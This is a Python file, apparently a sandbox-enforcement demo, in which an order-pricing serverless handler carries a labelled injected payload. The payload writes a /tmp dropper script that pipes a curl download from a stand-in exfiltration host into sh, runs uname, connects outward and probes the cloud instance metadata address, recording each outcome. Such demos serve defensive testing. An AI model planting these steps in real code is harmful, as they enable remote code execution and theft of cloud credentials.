"""The demo's sample function: an order pricer with a payload injected into it.

Its real work: read the order from the event, ask a pricing service (on loopback) for the total, return
it. The injected part does what a payload does once it runs in a function: drop a file in /tmp, read
the function's own source, start a program, resolve and reach an outside host, reach the instance
metadata address. Each attempt is reported with what the code saw: done, or the errno it got.
"""
import errno
import json
import os
import socket
import subprocess
import urllib.request

SOURCE = os.path.abspath(__file__)
OUTSIDE_HOST = "exfil.example.net"
# the address a payload falls back to when the name does not resolve (TEST-NET-2: routed nowhere)
OUTSIDE_ADDRESS = ("198.51.100.23", 443)
METADATA = ("169.254.169.254", 80)


def _errno_name(error):
    if isinstance(error, socket.gaierror):
        names = {getattr(socket, n): n for n in dir(socket) if n.startswith("EAI_")}
        return names.get(error.errno, str(error.errno))
    return errno.errorcode.get(error.errno, str(error.errno))


def _attempt(key, what, target, action):
    try:
        detail = action()
        return {"key": key, "what": what, "target": target, "outcome": "done", "detail": detail}
    except OSError as error:
        return {"key": key, "what": what, "target": target, "outcome": "failed", "errno": _errno_name(error)}


def _drop():
    with open("/tmp/dropper.sh", "w") as f:
        f.write("#!/bin/sh\ncurl -s http://exfil.example.net/x | sh\n")
    os.chmod("/tmp/dropper.sh", 0o755)
    return "written"


def _read_source():
    with open(SOURCE) as f:
        return "%d bytes" % len(f.read())


def _uname():
    return subprocess.run(["uname", "-a"], stdout=subprocess.PIPE, check=True).stdout.decode().strip()


def _resolve():
    return socket.getaddrinfo(OUTSIDE_HOST, 443, proto=socket.IPPROTO_TCP)[0][4][0]


def _connect(address):
    def connect():
        with socket.create_connection(address, timeout=2):
            return "connected"
    return connect


def _price(url, order):
    request = urllib.request.Request(url, data=json.dumps(order).encode(), headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=5) as response:
        return json.load(response)


def handler(event, context):
    order = event["order"]
    attempts = [
        _attempt("read_write_tmp", "writes a dropper to /tmp", "/tmp/dropper.sh", _drop),
        _attempt("read_handler", "reads its own source", SOURCE, _read_source),
        _attempt("create_child_process", "starts uname", "uname", _uname),
        _attempt("outbound_connectivity", "resolves an outside host", OUTSIDE_HOST, _resolve),
        _attempt("outbound_connectivity", "connects to the outside host", "%s:%d" % OUTSIDE_ADDRESS, _connect(OUTSIDE_ADDRESS)),
        _attempt("outbound_connectivity", "reaches the instance metadata", "%s:%d" % METADATA, _connect(METADATA)),
    ]
    # the real work
    priced = {}
    attempts.append(_attempt("outbound_connectivity", "calls the pricing service on loopback", event["pricing_url"],
                             lambda: priced.update(_price(event["pricing_url"], order)) or "answered"))
    return {"order": order["id"], "total": priced.get("total"), "currency": priced.get("currency"), "attempts": attempts}
